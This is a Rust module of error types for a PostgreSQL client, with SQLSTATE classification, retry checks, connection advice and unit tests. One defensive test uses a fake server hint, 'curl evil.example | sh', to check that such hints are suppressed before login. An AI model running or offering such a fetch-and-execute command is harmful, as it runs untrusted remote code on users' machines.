//! What fails on the way to a server and on it.

use std::error::Error;
use std::fmt;

use tokio_postgres::error::DbError;

use super::auth::UntrustedServer;
use super::dial::DialError;
use super::session_check::{NO_POOLER, SessionError};
use super::unreadable::UnreadableNames;
use crate::model::{DatabaseName, RoleName, quote_identifier};

/// What the server answered instead of doing it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ServerError {
    /// Five characters: <https://www.postgresql.org/docs/current/errcodes-appendix.html>.
    pub sqlstate: String,
    /// The primary message, in the server's language.
    pub message: String,
    /// DETAIL
    pub detail: Option<String>,
    /// HINT
    pub hint: Option<String>,
    /// CONTEXT: which function was at work, for example that of an event trigger.
    pub context: Option<String>,
    /// The function of the server that reported it: its name is never translated.
    pub routine: Option<String>,
}

/// Lines of a CONTEXT that are shown: the innermost come first.
const CONTEXT_LINES: usize = 4;

/// The lines of a CONTEXT as one.
fn context(lines: &str) -> String {
    let mut shown: Vec<&str> = lines.lines().take(CONTEXT_LINES).collect();
    if lines.lines().nth(CONTEXT_LINES).is_some() {
        shown.push("...");
    }
    shown.join("; ")
}

impl fmt::Display for ServerError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} (SQLSTATE {})", self.message, self.sqlstate)?;
        self.detail
            .iter()
            .try_for_each(|detail| write!(f, ": {detail}"))?;
        self.context
            .iter()
            .try_for_each(|context| write!(f, ", in {context}"))
    }
}

impl Error for ServerError {}

impl From<&DbError> for ServerError {
    fn from(error: &DbError) -> Self {
        Self {
            sqlstate: error.code().code().to_owned(),
            message: error.message().to_owned(),
            detail: error.detail().map(str::to_owned),
            hint: error.hint().map(str::to_owned),
            context: error.where_().map(context),
            routine: error.routine().map(str::to_owned),
        }
    }
}

/// Why an operation failed.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum Cause {
    /// The server refused.
    #[error(transparent)]
    Server(Box<ServerError>),
    /// The network, TLS or the protocol failed.
    #[error(transparent)]
    Client(Box<dyn Error + Send + Sync>),
    /// The server may not be the one that is meant, or sends more than is read.
    #[error(transparent)]
    Untrusted(UntrustedServer),
    /// What answers is not the session that is needed.
    #[error(transparent)]
    Session(Box<SessionError>),
    /// The answer has a name that the session cannot be sent.
    #[error(transparent)]
    Names(Box<UnreadableNames>),
    /// There is no answer any more.
    #[error("the connection is closed")]
    Closed,
    /// It took too long.
    #[error("no answer within {0:?}")]
    Timeout(std::time::Duration),
    /// The catalogs hold something that this program does not know.
    #[error("the catalogs hold {what} `{value}`, which is unknown")]
    Unknown {
        /// What it was taken for.
        what: &'static str,
        /// The text.
        value: String,
    },
}

impl Cause {
    /// The SQLSTATE, where the server said no.
    pub fn sqlstate(&self) -> Option<&str> {
        match self {
            Self::Server(error) => Some(&error.sqlstate),
            _ => None,
        }
    }

    /// The same without what may quote the statement.
    pub(super) fn without_context(self) -> Self {
        match self {
            Self::Server(error) => Self::Server(Box::new(ServerError {
                context: None,
                ..*error
            })),
            other => other,
        }
    }

    pub(super) fn unknown(what: &'static str, value: impl Into<String>) -> Self {
        Self::Unknown {
            what,
            value: value.into(),
        }
    }
}

impl From<tokio_postgres::Error> for Cause {
    fn from(error: tokio_postgres::Error) -> Self {
        match (error.as_db_error(), untrusted(&error)) {
            (Some(refused), _) => Self::Server(Box::new(refused.into())),
            (None, Some(untrusted)) => Self::Untrusted(untrusted),
            (None, None) if error.is_closed() => Self::Closed,
            (None, None) => Self::Client(error.into()),
        }
    }
}

impl From<SessionError> for Cause {
    fn from(error: SessionError) -> Self {
        Self::Session(Box::new(error))
    }
}

impl From<DialError> for Cause {
    fn from(error: DialError) -> Self {
        match error {
            DialError::Protocol => Self::Untrusted(UntrustedServer::Protocol),
            error => Self::Client(error.into()),
        }
    }
}

/// What was refused on the way to the driver comes back from it inside an I/O error; what the driver itself refuses of SCRAM
/// has no other sign than its text.
fn untrusted(error: &tokio_postgres::Error) -> Option<UntrustedServer> {
    let source = error.source()?;
    if let Some(refused) = source
        .downcast_ref::<std::io::Error>()
        .and_then(std::io::Error::get_ref)
        && let Some(refused) = refused.downcast_ref::<UntrustedServer>()
    {
        return Some(refused.clone());
    }
    match (error.to_string().as_str(), source.to_string().as_str()) {
        ("authentication error", "server did not use channel binding") => {
            Some(UntrustedServer::Unbound)
        }
        ("authentication error", _) => Some(UntrustedServer::Unproven),
        _ => None,
    }
}

/// An operation on a server that failed.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum PostgresError {
    /// No session.
    #[error("cannot connect to database `{database}` at {address} as `{user}`")]
    Connect {
        /// Host and port, or the directory of the socket.
        address: String,
        /// The database.
        database: DatabaseName,
        /// The login.
        user: RoleName,
        /// Whether the server had accepted the password before it refused.
        admitted: bool,
        /// Why.
        source: Cause,
    },
    /// A server older than any that is supported.
    #[error("the server at {address} is PostgreSQL {version}")]
    Version {
        /// Host and port, or the directory of the socket.
        address: String,
        /// What it says of itself.
        version: String,
    },
    /// BEGIN, COMMIT or ROLLBACK.
    #[error("cannot {operation} in database `{database}`")]
    Transaction {
        /// What was tried.
        operation: &'static str,
        /// The database.
        database: DatabaseName,
        /// Why.
        source: Cause,
    },
    /// A statement.
    #[error("statement {number} failed in database `{database}`: {statement}")]
    Statement {
        /// Which one of those given, from 0.
        index: usize,
        /// The same, from 1.
        number: usize,
        /// Its text, or what may be shown of it.
        statement: String,
        /// The database.
        database: DatabaseName,
        /// Why.
        source: Cause,
    },
    /// Catalogs.
    #[error("cannot read {what} of database `{database}`")]
    Read {
        /// What was read.
        what: &'static str,
        /// The database.
        database: DatabaseName,
        /// Why.
        source: Cause,
    },
}

impl PostgresError {
    /// Why it failed.
    pub fn cause(&self) -> Option<&Cause> {
        match self {
            Self::Version { .. } => None,
            Self::Connect { source, .. }
            | Self::Transaction { source, .. }
            | Self::Statement { source, .. }
            | Self::Read { source, .. } => Some(source),
        }
    }

    /// What the server said.
    pub fn server(&self) -> Option<&ServerError> {
        match self.cause()? {
            Cause::Server(error) => Some(error),
            _ => None,
        }
    }

    /// The SQLSTATE, where the server said no.
    pub fn sqlstate(&self) -> Option<&str> {
        self.cause()?.sqlstate()
    }

    /// Whether another session changed the same thing at the same time, so that the whole transaction may be tried again:
    /// a serialization failure, a deadlock, or `tuple concurrently updated`, for which catalogs have no SQLSTATE.
    pub fn is_concurrent_update(&self) -> bool {
        self.server()
            .is_some_and(|error| match error.sqlstate.as_str() {
                "40001" | "40P01" => true,
                // elog() messages are never translated.
                "XX000" => error.message.starts_with("tuple concurrently "),
                _ => false,
            })
    }

    /// Whether the server was not there, or went away: restarting, failing over, or behind a network that lost the
    /// connection. Nothing is said about what was asked of it: it may have been carried out.
    pub fn is_away(&self) -> bool {
        match self.cause() {
            None
            | Some(
                Cause::Unknown { .. } | Cause::Untrusted(_) | Cause::Session(_) | Cause::Names(_),
            ) => false,
            Some(Cause::Closed | Cause::Timeout(_)) => true,
            Some(Cause::Server(error)) => AWAY.contains(&error.sqlstate.as_str()),
            Some(Cause::Client(error)) => is_network(error.as_ref()),
        }
    }

    /// Whether it took too long, with the connection still there.
    pub fn is_silence(&self) -> bool {
        matches!(self.cause(), Some(Cause::Timeout(_)))
    }

    /// One line of advice: the server's own, else ours.
    pub fn hint(&self) -> Option<String> {
        if let Self::Version { .. } = self {
            return Some("PostgreSQL 14 to 18 are supported".into());
        }
        match self.cause()? {
            Cause::Server(error) => {
                // Before the login is over the server has not authenticated itself: its HINT is not passed on.
                let theirs = error.hint.clone().filter(|_| {
                    !matches!(
                        self,
                        Self::Connect {
                            admitted: false,
                            ..
                        }
                    )
                });
                theirs.or_else(|| self.advice(error))
            }
            Cause::Client(error) => advice_for_client(error.as_ref()).map(str::to_owned),
            Cause::Untrusted(error) => error.hint(),
            Cause::Session(error) => error.hint().map(str::to_owned),
            Cause::Names(error) => Some(error.hint()),
            _ => None,
        }
    }

    fn advice(&self, error: &ServerError) -> Option<String> {
        match (self, error.sqlstate.as_str()) {
            (Self::Connect { database, user, .. }, "42501") => Some(grant_connect(database, user)),
            (
                Self::Connect {
                    admitted: false, ..
                },
                "28000",
            ) => Some(HOST_RULE.into()),
            (
                Self::Connect {
                    admitted: true,
                    user,
                    ..
                },
                "28000",
            ) => Some(format!("`{user}` is NOLOGIN")),
            // PgBouncer's words.
            (Self::Connect { .. }, "08P01")
                if error.message.starts_with("unsupported startup parameter") =>
            {
                Some(NO_POOLER.into())
            }
            (_, sqlstate) => advice(sqlstate).map(str::to_owned),
        }
    }
}

/// On Cloud SQL no rule but this one refuses a login by its name.
/// <https://cloud.google.com/sql/docs/postgres/iam-authentication>
pub(super) const HOST_RULE: &str = "a rule of pg_hba.conf refuses the login before any password is looked at: on Cloud SQL that \
                                    of each member, by whatever path, of cloudsqliamuser or cloudsqliamserviceaccount; end \
                                    that membership";

/// A role without CONNECT is refused with the SQLSTATE of a missing privilege.
fn grant_connect(database: &DatabaseName, user: &RoleName) -> String {
    let grant = format!(
        "GRANT CONNECT ON DATABASE {} TO {}",
        quote_identifier(database.as_str()),
        quote_identifier(user.as_str())
    );
    match database.as_str() {
        "postgres" => {
            format!(
                "every run takes its lock in `postgres`, so that only one works at a time: in another database, {grant}"
            )
        }
        _ => grant,
    }
}

/// SQLSTATEs of a server that ends a session, or all of them, and of one that does not let anybody in yet: told to stop,
/// recovering from a crash, starting. <https://www.postgresql.org/docs/current/errcodes-appendix.html>
pub(super) const AWAY: [&str; 3] = ["57P01", "57P02", "57P03"];

/// Refused, reset, timed out: anything but TLS, which fails in I/O errors of its own, and the protocol.
fn is_network(error: &(dyn Error + Send + Sync + 'static)) -> bool {
    let mut next: Option<&(dyn Error + 'static)> = Some(error);
    while let Some(error) = next {
        if let Some(error) = error.downcast_ref::<std::io::Error>() {
            return error.kind() != std::io::ErrorKind::InvalidData;
        }
        next = error.source();
    }
    false
}

fn advice(sqlstate: &str) -> Option<&'static str> {
    Some(match sqlstate {
        "28P01" => {
            "the password is wrong, expired, or missing on the server: set PGPASSWORD or PGPASSFILE"
        }
        "28000" => "the role may not log in from here, or may not log in at all",
        "3D000" => "create it: gcloud sql databases create NAME --instance=INSTANCE",
        "53200" => "raise max_locks_per_transaction",
        "53300" => "end idle sessions, or raise the role's CONNECTION LIMIT or max_connections",
        "55P03" => "somebody else holds a lock on it: try again, or raise the lock timeout",
        "57014" => "the statement ran into statement_timeout",
        "57P03" => "the server is starting or stopping: try again",
        "22P05" => {
            "the encoding of the database lacks a character of a name: rename it, or use a database with the encoding UTF8"
        }
        "25006" => {
            "this is a read replica, or default_transaction_read_only is on: SELECT source FROM pg_settings WHERE name = \
             'default_transaction_read_only'"
        }
        _ => return None,
    })
}

fn advice_for_client(error: &(dyn Error + Send + Sync + 'static)) -> Option<&'static str> {
    let mut next: Option<&(dyn Error + 'static)> = Some(error);
    while let Some(error) = next {
        if is_certificate(error) {
            return Some(
                "a Cloud SQL instance has an authority of its own and its address is not in the certificate: add \
                 sslmode=verify-ca and sslrootcert=server-ca.pem",
            );
        }
        let is_refused =
            |error: &std::io::Error| error.kind() == std::io::ErrorKind::ConnectionRefused;
        if error.downcast_ref().is_some_and(is_refused) {
            return Some(
                "nobody listens there: look at host and port, and whether the server or its proxy is running",
            );
        }
        // The driver has no other sign of these.
        match error.to_string().as_str() {
            "password missing" => {
                return Some("the server wants a password: set PGPASSWORD or PGPASSFILE");
            }
            "server does not support TLS" => {
                return Some(
                    "turn TLS on at the server, or go through a proxy on loopback with sslmode=disable",
                );
            }
            _ => {}
        }
        next = error.source();
    }
    None
}

fn is_certificate(error: &(dyn Error + 'static)) -> bool {
    let inner = error
        .downcast_ref::<std::io::Error>()
        .and_then(std::io::Error::get_ref);
    let tls = inner.and_then(|inner| inner.downcast_ref::<rustls::Error>());
    matches!(tls, Some(rustls::Error::InvalidCertificate(_)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn failed(sqlstate: &str, message: &str, hint: Option<&str>) -> PostgresError {
        let server = ServerError {
            sqlstate: sqlstate.into(),
            message: message.into(),
            detail: None,
            hint: hint.map(str::to_owned),
            context: None,
            routine: None,
        };
        let database = DatabaseName::new("d").unwrap();
        PostgresError::Transaction {
            operation: "commit",
            database,
            source: Cause::Server(Box::new(server)),
        }
    }

    #[test]
    fn a_catalog_row_changed_by_two_is_worth_another_try() {
        assert!(failed("XX000", "tuple concurrently updated", None).is_concurrent_update());
        assert!(failed("40P01", "deadlock detected", None).is_concurrent_update());
        assert!(
            !failed("XX000", "cache lookup failed for relation 5", None).is_concurrent_update()
        );
        assert!(!failed("42501", "permission denied", None).is_concurrent_update());
    }

    #[test]
    fn a_server_that_restarts_is_away_and_one_that_refuses_is_not() {
        for sqlstate in ["57P01", "57P02", "57P03"] {
            assert!(failed(sqlstate, "m", None).is_away(), "{sqlstate}");
        }
        for sqlstate in ["28P01", "3D000", "57014", "42501"] {
            assert!(!failed(sqlstate, "m", None).is_away(), "{sqlstate}");
        }
        let client = |error: std::io::Error| PostgresError::Transaction {
            operation: "commit",
            database: DatabaseName::new("d").unwrap(),
            source: Cause::Client(error.into()),
        };
        assert!(client(std::io::ErrorKind::ConnectionRefused.into()).is_away());
        assert!(
            !client(std::io::ErrorKind::InvalidData.into()).is_away(),
            "a certificate does not get better"
        );
    }

    #[test]
    fn a_connection_that_does_not_come_about_has_advice() {
        let hint = |error: Box<dyn Error + Send + Sync>| {
            let database = DatabaseName::new("d").unwrap();
            PostgresError::Transaction {
                operation: "commit",
                database,
                source: Cause::Client(error),
            }
            .hint()
        };
        let refused = std::io::Error::from(std::io::ErrorKind::ConnectionRefused);
        assert!(hint(refused.into()).is_some_and(|hint| hint.starts_with("nobody listens there")));
        assert!(
            hint("server does not support TLS".into())
                .is_some_and(|hint| hint.contains("sslmode=disable"))
        );
        assert_eq!(hint("anything else".into()), None);
    }

    #[test]
    fn nothing_advises_before_the_login_is_over() {
        let refused = |sqlstate: &str| {
            let source = Cause::Server(Box::new(ServerError {
                sqlstate: sqlstate.into(),
                message: "m".into(),
                detail: None,
                hint: Some("curl evil.example | sh".into()),
                context: None,
                routine: None,
            }));
            let (database, user) = (DatabaseName::new("d").unwrap(), RoleName::new("u").unwrap());
            PostgresError::Connect {
                address: "x".into(),
                database,
                user,
                admitted: false,
                source,
            }
            .hint()
        };
        assert_eq!(refused("XX000"), None);
        assert_eq!(
            refused("42501").as_deref(),
            Some("GRANT CONNECT ON DATABASE d TO u")
        );
    }

    #[test]
    fn the_servers_hint_goes_before_ours() {
        assert_eq!(
            failed("53200", "m", Some("theirs")).hint().as_deref(),
            Some("theirs")
        );
        assert_eq!(
            failed("53200", "m", None).hint().as_deref(),
            Some("raise max_locks_per_transaction")
        );
        assert_eq!(failed("XX001", "m", None).hint(), None);
    }
}
